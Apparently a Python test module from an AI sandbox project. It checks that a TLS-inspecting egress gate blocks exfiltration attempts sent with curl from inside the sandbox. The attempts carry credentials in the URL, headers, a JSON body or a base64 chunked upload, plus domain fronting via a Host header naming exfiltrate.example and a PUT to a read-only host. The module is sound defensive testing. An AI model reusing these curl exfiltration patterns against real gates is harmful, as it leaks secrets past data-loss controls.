"""``verify``'s attacks inside TLS the gate terminates, sent from the bottle with curl to the HTTPS stand-ins:
a secret in a request (DLP), fronting by Host, a write under read-only rules. Each is judged by the gate's
answer and by whether the stand-in logged it."""

from __future__ import annotations

import base64
import secrets
import string
from collections.abc import Callable
from dataclasses import dataclass

from claude_bottle.verify.probe import Outcome
from claude_bottle.verify.standins import INSPECTED, READ_ONLY, TLS_PORT, Verification, in_bottle, requests_logged

INSPECTION = "inspected https"
FILLER = 300_000  # bytes of an upload before its secret: many reads and scanner tails in


@dataclass(frozen=True)
class Inspected:
    """One request the bottle sends with curl to an HTTPS stand-in the gate inspects, and how it must end.
    ``path`` is the attack's own, so the stand-in's log tells whether it arrived; ``$S`` in ``curl`` is the
    secret, which reaches the bottle on curl's shell's standard input only."""

    attack: str
    expected: str
    host: str
    path: str
    curl: str
    status: int  # the refusal the gate must answer
    secret: Callable[[Verification], str] = lambda target: ""
    upload: bool = False  # curl sends its standard input chunked: FILLER bytes, then the secret on a line


def _github_token() -> str:
    return "ghp_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))


def _base64(value: str) -> str:
    return base64.b64encode(value.encode()).decode()


def _credential(target: Verification) -> str:
    return target.credential.secret


INSPECTED_ATTACKS = (
    Inspected("the credential in the URL of a request inside TLS", "refused (DLP)", INSPECTED, "/verify/url",
              '"{url}?q=$S"', 403, _credential),
    Inspected("the credential in a request header inside TLS", "refused (DLP)", INSPECTED, "/verify/header",
              '-H "X-Note: $S" {url}', 403, _credential),
    Inspected("the credential in a JSON body inside TLS", "refused (DLP)", INSPECTED, "/verify/body",
              "-H 'Content-Type: application/json' -d \"{{\\\"note\\\": \\\"$S\\\"}}\" {url}", 403, _credential),
    Inspected("the credential in base64, 300 KB into a chunked upload", "refused (DLP)", INSPECTED,
              "/verify/upload", "-T - -H 'Transfer-Encoding: chunked' {url}", 403,
              lambda target: _base64(target.credential.secret), upload=True),
    Inspected("a GitHub token (ghp_...) in a request header inside TLS", "refused (DLP)", INSPECTED,
              "/verify/github", '-H "Authorization: token $S" {url}', 403, lambda target: _github_token()),
    Inspected("a Host header naming exfiltrate.example inside the tunnel (domain fronting)", "refused (421)",
              INSPECTED, "/verify/fronted", "-H 'Host: exfiltrate.example' {url}", 421),
    Inspected(f"PUT to {READ_ONLY}, which read-only rules cover (a publish)", "refused (rule)", READ_ONLY,
              "/verify/publish", "-X PUT --data-binary 'a package' {url}", 403),
)
CONTROLS = tuple(Inspected(f"a clean GET inside TLS to {host} (the control)", "reaches the stand-in", host,
                           "/verify/control", "{url}", 404) for host in (INSPECTED, READ_ONLY))


def _curl(target: Verification, request: Inspected, secret: str = "") -> tuple[int | None, str]:
    """Send ``request`` with ``secret`` from the bottle: (the final response status or None, its X-Deny-Reason,
    or curl's last words when no answer came). The attacker does not care whose certificate answers (``-k``):
    the attack is on what passes, not on trust."""
    command = (f"curl -k -sS --suppress-connect-headers --max-time 20 -o /dev/null -D - "
               f"{request.curl.format(url=f'https://{request.host}:{TLS_PORT}{request.path}')}")
    if request.upload:
        command = (f"{{ head -c {FILLER} /dev/zero | tr '\\0' a; printf '\\n%s\\n' \"$S\"; }} | {command}")
    _, output = in_bottle(target.run, f"{{ read -r S; {command}; }} 2>&1", secret)
    heads = [head for head in output.split("\r\n\r\n") if head.startswith("HTTP/")]
    if not heads:
        return None, (output.strip().splitlines()[-1:] or ["no answer"])[0][-80:]
    lines = heads[-1].split("\r\n")
    reason = next((line.split(":", 1)[1].strip() for line in lines if line.lower().startswith("x-deny-reason:")), "")
    return int(lines[0].split()[1]), reason




def _arrived(target: Verification, request: Inspected) -> bool:
    """Whether the stand-in logged a request to ``request``'s path."""
    return any(logged["target"].startswith(request.path) for logged in requests_logged(target.https[request.host]))


def inspection_attacks(target: Verification) -> list[Outcome]:
    """Exfiltration inside TLS to allowed hosts, fronting by Host, a write under read-only rules: each must
    be refused by the gate with its reason and never reach the stand-in. The controls must reach it, else
    the refusals prove nothing and each attack counts as a leak."""
    control_ok = True
    outcomes = []
    for control in CONTROLS:
        status, reason = _curl(target, control)
        arrived = _arrived(target, control)
        control_ok &= arrived
        outcomes.append(Outcome(INSPECTION, control.attack, control.expected,
                                f"answered {status}" if arrived else f"did not arrive ({status or reason})", arrived))
    for request in INSPECTED_ATTACKS:
        secret = request.secret(target)
        status, reason = _curl(target, request, secret)
        got = _arrived(target, request)
        shown = f"HTTP {status}{f' ({reason})' if reason else ''}" if status else reason
        if got:
            actual, blocked = f"the stand-in got it ({shown})", False
        elif secret and secret in reason:
            actual, blocked = "the refusal quotes the secret", False
        elif not control_ok:
            actual, blocked = f"inconclusive: the control did not arrive either ({shown})", False
        else:
            actual, blocked = shown, status == request.status and bool(reason)
        outcomes.append(Outcome(INSPECTION, request.attack, request.expected, actual, blocked))
    return outcomes
